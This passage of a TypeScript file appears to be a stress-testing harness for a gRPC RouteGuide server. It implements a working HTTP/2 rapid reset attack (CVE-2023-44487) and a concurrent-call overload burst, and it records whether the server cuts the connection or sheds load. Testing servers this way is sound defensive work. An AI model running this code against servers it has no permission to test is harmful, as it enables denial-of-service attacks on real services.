  readonly goawayCode: number | undefined;
  readonly closedAt: number;
}

/**
 * HTTP/2 rapid reset (CVE-2023-44487): on one connection, opens ListFeatures streams in
 * batches and cancels each with RST_STREAM right after its HEADERS, as fast as the socket takes
 * them, until the server cuts the connection off or the bounds are reached.
 */
export async function rapidReset(
  address: string,
  options: RapidResetOptions = {},
): Promise<Attack<RapidResetReport>> {
  const maxStreams = options.maxStreams ?? 20_000;
  const batch = options.batch ?? 100;
  const maxMs = options.maxMs ?? 10_000;
  const { session, socket } = await openSession(address, {}, 10_000);
  const body = options.withRequest === true ? listFeaturesRequest(WORLD) : undefined;
  let streams = 0;
  let cutOffAt: number | undefined;
  let goawayCode: number | undefined;
  let halted = false;
  let stopping = false;
  let closedAt = NaN;
  session.once('goaway', (code: number) => {
    goawayCode = code;
    if (!stopping) cutOffAt ??= streams;
  });
  session.once('close', () => {
    if (!stopping) cutOffAt ??= streams;
  });
  const until = performance.now() + maxMs;
  const loop = (async () => {
    while (
      !halted &&
      cutOffAt === undefined &&
      streams < maxStreams &&
      performance.now() < until &&
      !session.closed &&
      !session.destroyed
    ) {
      const batchOf: http2.ClientHttp2Stream[] = [];
      try {
        for (let i = 0; i < batch && streams < maxStreams; i++) {
          const stream = session.request(requestHeaders(LIST_FEATURES_PATH));
          stream.on('error', ignore);
          if (body !== undefined) stream.end(body);
          batchOf.push(stream);
          streams++;
        }
      } catch {
        // The session went away under us (ERR_HTTP2_INVALID_SESSION, GOAWAY received).
        cutOffAt ??= streams;
      }
      // One turn later the HEADERS are on the wire (a stream reset before then is dropped by
      // the client and never reaches the server); then every stream of the batch is reset.
      await new Promise((resolve) => setImmediate(resolve));
      const closed = batchOf.map(
        (stream) =>
          new Promise<void>((resolve) => {
            if (stream.closed) return resolve();
            stream.once('close', () => resolve());
            stream.close(http2.constants.NGHTTP2_CANCEL);
          }),
      );
      let timer: NodeJS.Timeout | undefined;
      await Promise.race([
        Promise.all(closed),
        new Promise((resolve) => (timer = setTimeout(resolve, 2000))),
      ]);
      clearTimeout(timer);
    }
  })();
  const report = (): RapidResetReport => ({
    streams,
    cutOff: cutOffAt !== undefined,
    streamsBeforeCutOff: cutOffAt ?? NaN,
    goawayCode,
    closedAt,
  });
  let stopped: Promise<RapidResetReport> | undefined;
  return {
    report,
    finished: loop,
    stop: () =>
      (stopped ??= (async () => {
        halted = true;
        await loop;
        stopping = true;
        await destroyAll([socket]);
        closedAt = performance.now();
        return report();
      })()),
  };
}

// --- overload burst --------------------------------------------------------------------------

export interface OverloadOptions {
  /** ListFeatures calls started at once. */
  readonly calls: number;
  /** Channels (connections) they are spread over. Default 4. */
  readonly connections?: number;
  /** Deadline of each call. Default 5000 ms. */
  readonly deadlineMs?: number;
  /** Half the side of each call's square box, in degrees. Default 5 (a 10°×10° box). */
  readonly halfSideDegrees?: number;
}

export interface CallClass {
  readonly count: number;
  readonly p50Ms: number;
  readonly p99Ms: number;
  readonly maxMs: number;
}

export interface OverloadReport {
  readonly calls: number;
  /** Calls that completed with OK. */
  readonly ok: CallClass;
  /** Calls refused with UNAVAILABLE or RESOURCE_EXHAUSTED (shed load). */
  readonly refused: CallClass;
  /** Calls that ran past their deadline. */
  readonly deadlineExceeded: CallClass;
  /** Any other status, by name. */
  readonly other: Record<string, number>;
  readonly features: number;
  readonly closedAt: number;
}

function callClass(ms: number[]): CallClass {
  const sorted = Float64Array.from(ms).sort();
  return {
    count: ms.length,
    p50Ms: percentile(sorted, 0.5),
    p99Ms: percentile(sorted, 0.99),
    maxMs: percentile(sorted, 1),
  };
}

/** Deterministic box centres spread over the globe (a fixed linear congruential sequence). */
function burstBoxes(count: number, halfSideDegrees: number): Box[] {
  let state = 12345;
  const next = (): number => {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    return state / 2 ** 32;
  };
  const half = Math.round(halfSideDegrees * 1e7);
  return Array.from({ length: count }, () => {
    const latitude = Math.round((next() * 160 - 80) * 1e7);
    const longitude = Math.round((next() * 340 - 170) * 1e7);
    return {
      lo: { latitude: latitude - half, longitude: longitude - half },
      hi: { latitude: latitude + half, longitude: longitude + half },
    };
  });
}

/**
 * A burst of `calls` concurrent ListFeatures over small boxes from a fast client (it reads
 * everything at once), each with a deadline: more than a server can serve in time. Stop waits
 * for every call to end, which its deadline bounds.
 */
export function overloadBurst(address: string, options: OverloadOptions): Attack<OverloadReport> {
  const deadlineMs = options.deadlineMs ?? 5000;
  const clients: RouteGuideClient[] = Array.from({ length: options.connections ?? 4 }, () =>
    newRouteGuideClient(address),
  );
  const ok: number[] = [];
  const refused: number[] = [];
  const late: number[] = [];
  const other: Record<string, number> = {};
  let features = 0;
  let closedAt = NaN;
  const boxes = burstBoxes(options.calls, options.halfSideDegrees ?? 5);
  const calls = boxes.map(
    (box, i) =>
      new Promise<void>((resolve) => {
        const started = performance.now();
        const call = clients[i % clients.length]!.ListFeatures(box, {
          deadline: Date.now() + deadlineMs,
        });
        call.on('data', () => features++);
        call.on('status', ({ code }: grpc.StatusObject) => {
          const ms = performance.now() - started;
          if (code === grpc.status.OK) ok.push(ms);
          else if (code === grpc.status.UNAVAILABLE || code === grpc.status.RESOURCE_EXHAUSTED)
            refused.push(ms);
          else if (code === grpc.status.DEADLINE_EXCEEDED) late.push(ms);
          else {
            const name = grpc.status[code] ?? String(code);
            other[name] = (other[name] ?? 0) + 1;
          }
          resolve();
        });
        call.on('error', ignore);
      }),
  );
  const report = (): OverloadReport => ({
    calls: options.calls,
    ok: callClass(ok),
    refused: callClass(refused),
    deadlineExceeded: callClass(late),
    other: { ...other },
    features,
    closedAt,
  });
  let stopped: Promise<OverloadReport> | undefined;
  return {
    report,
    finished: Promise.all(calls).then(() => undefined),
    stop: () =>
      (stopped ??= (async () => {
        await Promise.all(calls);
        for (const client of clients) client.close();
        closedAt = performance.now();
        return report();
      })()),
  };
}
